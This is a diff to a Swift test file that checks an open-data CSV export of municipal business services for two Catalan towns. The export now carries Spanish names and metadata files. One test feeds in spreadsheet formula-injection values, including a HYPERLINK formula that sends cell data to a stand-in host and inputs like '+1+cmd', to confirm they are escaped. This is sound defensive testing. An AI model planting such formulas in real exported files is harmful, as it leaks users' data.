@@ -13,20 +13,21 @@ final class OpenDataTests: XCTestCase {
     func testFilesAndTheirOrder() {
         XCTAssertEqual(fixture.export().files().map(\.path), [
             "catalogue.jsonld", "catalogue-molins-de-rei.jsonld", "catalogue-sant-feliu-de-llobregat.jsonld",
-            "offices.jsonld", "services.csv", "indicator-values.csv",
+            "offices.jsonld", "offices.csv", "offices.csv-metadata.json", "services.csv", "services.csv-metadata.json",
+            "indicator-values.csv", "indicator-values.csv-metadata.json",
         ])
     }
 
     func testServicesCSVBytes() {
         XCTAssertEqual(fixture.file("services.csv"),
-                       "municipality,ine_code,service,name_ca,adoption,overridden_fields,local\r\n"
-                       + "molins-de-rei,08123,business-transfer,Traspàs d'empreses,not-adopted,,false\r\n"
-                       + "molins-de-rei,08123,company-creation,Creació d'empreses,core,,false\r\n"
-                       + "molins-de-rei,08123,grants-information,Informació sobre ajuts,recommended,,false\r\n"
-                       + "sant-feliu-de-llobregat,08211,business-transfer,Traspàs d'empreses,adopted,,false\r\n"
-                       + "sant-feliu-de-llobregat,08211,company-creation,Creació d'empreses,core,commitments[first-appointment].target;channels,false\r\n"
-                       + "sant-feliu-de-llobregat,08211,grants-information,Informació sobre ajuts,omitted,,false\r\n"
-                       + "sant-feliu-de-llobregat,08211,local-retail-support,Suport al comerç local,local,,true\r\n")
+                       "municipality,ine_code,service,name_ca,name_es,adoption,overridden_fields,local\r\n"
+                       + "molins-de-rei,08123,business-transfer,Traspàs d'empreses,Traspaso de empresas,not-adopted,,false\r\n"
+                       + "molins-de-rei,08123,company-creation,Creació d'empreses,Creación de empresas,core,,false\r\n"
+                       + "molins-de-rei,08123,grants-information,Informació sobre ajuts,Información sobre ayudas,recommended,,false\r\n"
+                       + "sant-feliu-de-llobregat,08211,business-transfer,Traspàs d'empreses,Traspaso de empresas,adopted,,false\r\n"
+                       + "sant-feliu-de-llobregat,08211,company-creation,Creació d'empreses,Creación de empresas,core,commitments[first-appointment].target;channels,false\r\n"
+                       + "sant-feliu-de-llobregat,08211,grants-information,Informació sobre ajuts,Información sobre ayudas,omitted,,false\r\n"
+                       + "sant-feliu-de-llobregat,08211,local-retail-support,Suport al comerç local,Apoyo al comercio local,local,,true\r\n")
     }
 
     func testIndicatorValuesCSVBytes() throws {
@@ -41,9 +42,9 @@ final class OpenDataTests: XCTestCase {
             source: {ca: Registre de l'oficina, es: Registro de la oficina}
             """)
         XCTAssertEqual(fixture.file("indicator-values.csv"),
-                       "municipality,period,indicator,value,unit,target\r\n"
-                       + "sant-feliu-de-llobregat,2026-Q2,people-attended,110,count,100.5\r\n"
-                       + "sant-feliu-de-llobregat,2026-Q3,people-attended,125,count,100.5\r\n")
+                       "municipality,period,indicator,value,unit,target,target_direction\r\n"
+                       + "sant-feliu-de-llobregat,2026-Q2,people-attended,110,count,100.5,at-least\r\n"
+                       + "sant-feliu-de-llobregat,2026-Q3,people-attended,125,count,100.5,at-least\r\n")
     }
 
     func testCSVQuotesWhatItMust() {
@@ -65,7 +66,7 @@ final class OpenDataTests: XCTestCase {
         try Data(fixture.file("services.csv").utf8).write(to: csv)
         let rows = try readCSVWithPython(csv)
         XCTAssertEqual(rows.last, ["sant-feliu-de-llobregat", "08211", "local-retail-support",
-                                   #"'=HYPERLINK("https://example.org/?d="&A2,"Suport")"#, "local", "", "true"])
+                                   #"'=HYPERLINK("https://example.org/?d="&A2,"Suport")"#, "Apoyo", "local", "", "true"])
         let table = CSVTable(header: ["cell"], rows: [["+1+cmd"], ["-2+3"], ["@SUM(A1)"], ["\tx"], ["\rx"], ["-2.5"], ["-12"], ["a=b"]])
         let tableFile = fixture.root.appendingPathComponent("table.csv")
         try Data(table.text.utf8).write(to: tableFile)
